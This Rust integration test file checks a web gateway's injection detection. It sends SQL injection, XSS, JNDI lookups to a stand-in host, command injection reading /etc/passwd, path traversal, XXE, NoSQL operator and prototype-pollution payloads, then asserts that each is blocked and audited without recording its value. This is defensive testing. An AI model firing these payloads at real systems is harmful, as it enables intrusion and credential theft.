//! Injection detection through the real gateway: payloads in every location are
//! refused with the detector and the location audited (never the payload),
//! typed values are not inspected, exclusions and monitor mode hold.

use serde_json::json;

use super::{contract_gateway, request_events};
use crate::support::*;

/// Waits for the audit record of the newest routed request.
async fn last_event(gw: &Gateway, count: usize) -> serde_json::Value {
    eventually("the audit record", || request_events(gw).len() >= count).await;
    request_events(gw).pop().unwrap()
}

#[tokio::test]
async fn payloads_are_refused_in_every_location_and_audited_without_the_value() {
    let up = upstream().await;
    let gw = contract_gateway(&up, "    inspection: { headers: [user-agent] }\n").await;
    let sqli = "1' UNION SELECT password FROM users--";
    let xss = "<script>alert(document.cookie)</script>";
    let url = |p: &str| format!("{}{p}", gw.url);
    let cases: Vec<(reqwest::RequestBuilder, &str, &str)> = vec![
        (client().get(url(&format!("/search/{}", enc(sqli)))), "sqli", "/path/term"),
        (client().get(url(&format!("/notes/n-1?q={}", enc(sqli)))), "sqli", "/query/q"),
        (client().get(url(&format!("/notes/n-1?utm={}", enc(xss)))), "xss", "/query/utm"),
        (client().get(url("/notes/n-1")).header("x-purpose", "; cat /etc/passwd"), "", "/header/x-purpose"),
        (client().get(url("/notes/n-1")).header("user-agent", "${jndi:ldap://evil.example/a}"), "jndi", "/header/user-agent"),
        (client().get(url("/notes/n-1")).header("cookie", format!("theme={}", enc(xss))), "xss", "/cookie/theme"),
        (
            client().post(url("/notes")).header("content-type", "application/json")
                .body(json!({"title": "t", "meta": {"source": sqli}}).to_string()),
            "sqli",
            "/body/meta/source",
        ),
        (
            client().post(url("/notes")).header("content-type", "application/json")
                .body(json!({"title": "t", "tags": ["ok", xss]}).to_string()),
            "xss",
            "/body/tags/1",
        ),
        (
            client().post(url("/notes")).header("content-type", "application/x-www-form-urlencoded")
                .body(format!("title={}", enc("../../../../etc/passwd"))),
            "traversal",
            "/body/title",
        ),
        (
            client().post(url("/notes")).header("content-type", "application/xml")
                .body(r#"<?xml version="1.0"?><!DOCTYPE n [<!ENTITY x SYSTEM "file:///etc/passwd">]><note>&x;</note>"#),
            "xxe",
            "/body",
        ),
    ];
    let mut count = 0;
    for (req, detector, location) in cases {
        let resp = req.send().await.unwrap();
        count += 1;
        let doc = assert_problem(resp, 403, "request-blocked").await;
        let text = doc.to_string();
        assert!(
            !text.contains("UNION") && !text.contains("script") && !text.contains("passwd"),
            "{text}"
        );
        let event = last_event(&gw, count).await;
        let found = &event["inspection"];
        assert_eq!(
            found["location"]
                .as_str()
                .map(str::to_ascii_lowercase)
                .as_deref(),
            Some(location),
            "{event}"
        );
        if !detector.is_empty() {
            assert_eq!(found["detector"], detector, "{event}");
        }
    }
    assert!(up.requests().is_empty(), "no payload reached the upstream");
    // The audit log names detectors and locations, never a payload.
    let audit = std::fs::read_to_string(gw.dir.path().join("audit.jsonl")).unwrap();
    for needle in [
        "UNION",
        "<script",
        "${jndi",
        "evil.example",
        "/etc/passwd",
        "cat ",
    ] {
        assert!(!audit.contains(needle), "the audit log holds `{needle}`");
    }
}

#[tokio::test]
async fn json_keys_with_operators_or_prototype_pollution_are_refused() {
    let up = upstream().await;
    let gw = contract_gateway(&up, "").await;
    for (body, detector, location) in [
        (
            r#"{"title": "t", "meta": {"$where": "1 == 1"}}"#,
            "nosql",
            "/body/meta/$where",
        ),
        (
            r#"{"title": "t", "meta": {"__proto__": {"admin": true}}}"#,
            "prototype-pollution",
            "/body/meta/__proto__",
        ),
        // Each key alone is an ordinary word; nested, they reach Object.prototype.
        (
            r#"{"title": "t", "meta": {"constructor": {"prototype": {"admin": true}}}}"#,
            "prototype-pollution",
            "/body/meta/constructor/prototype",
        ),
    ] {
        let resp = client()
            .post(format!("{}/notes", gw.url))
            .header("content-type", "application/json")
            .body(body)
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 403, "{body}");
        eventually("the audit record", || {
            request_events(&gw).iter().any(|e| {
                e["inspection"]["detector"] == detector && e["inspection"]["location"] == location
            })
        })
        .await;
    }
    assert!(up.requests().is_empty());
}

#[tokio::test]
async fn typed_values_are_not_inspected_and_benign_text_passes() {
    let up = upstream().await;
    let gw = contract_gateway(&up, "").await;
    // An enum or date-time value is already pinned down by the spec: a value the
    // detectors would flag there is a validation error (400), not a block.
    let resp = gw
        .get(&format!("/notes/n-1?sort={}", enc("asc' OR '1'='1")))
        .await;
    assert_eq!(resp.status(), 400);
    // Ordinary text in free-form fields goes through.
    for q in [
        "O'Reilly books",
        "cats & dogs",
        "price < 20 and > 5",
        "select a plan",
        "C:\\Users\\me",
    ] {
        let resp = gw.get(&format!("/notes/n-1?q={}", enc(q))).await;
        assert_eq!(resp.status(), 200, "{q}");
    }
    let resp = client()
        .post(format!("{}/notes", gw.url))
        .header("content-type", "application/json")
        .body(json!({"title": "Meeting notes", "body": "We'll drop the old table next week; union reps invited.\nSee you at 10:00.", "due": "2026-12-01T10:00:00Z", "kind": "memo"}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
}

#[tokio::test]
async fn exclusions_and_monitor_mode() {
    let up = upstream().await;
    let gw = contract_gateway(
        &up,
        "    inspection:\n      mode: monitor\n      exclude:\n        - operations: [createNote]\n          locations: [/body/body]\n          detectors: [xss]\n",
    )
    .await;
    // Monitor: recorded, let through.
    let resp = gw
        .get(&format!("/notes/n-1?q={}", enc("1 OR 1=1 UNION SELECT 1")))
        .await;
    assert_eq!(resp.status(), 200);
    eventually("a monitored finding", || {
        request_events(&gw).iter().any(|e| {
            e["inspection"]["detector"] == "sqli"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.starts_with("monitor: request-blocked"))
        })
    })
    .await;
    let metrics = gw.admin_text("/metrics").await;
    assert!(
        metrics.contains(r#"check="inspection",outcome="sqli",mode="monitor"} 1"#),
        "{metrics}"
    );
    // Excluded: markup allowed in the note body, nothing recorded for it.
    let before = request_events(&gw).len();
    let resp = client()
        .post(format!("{}/notes", gw.url))
        .header("content-type", "application/json")
        .body(json!({"title": "t", "body": "<b onmouseover=alert(1)>hi</b>"}).to_string())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    eventually("the audit record", || request_events(&gw).len() > before).await;
    assert!(request_events(&gw).last().unwrap()["inspection"].is_null());
}

#[tokio::test]
async fn unknown_detector_names_are_config_errors_with_their_line() {
    let dir = tempfile::tempdir().unwrap();
    write_base_files(dir.path());
    let text = config(
        "http://127.0.0.1:9",
        "    inspection:\n      disable: [sqly]\n",
    );
    let path = dir.path().join("portcullis.yaml");
    std::fs::write(&path, &text).unwrap();
    let err = portcullis_gateway::config::load(&path)
        .expect_err("refused")
        .to_string();
    assert!(
        err.contains("sqly") && err.contains("inspection.disable"),
        "{err}"
    );
    let line = text.lines().position(|l| l.contains("sqly")).unwrap() + 1;
    assert!(err.contains(&format!(":{line}:")), "{err}");
}
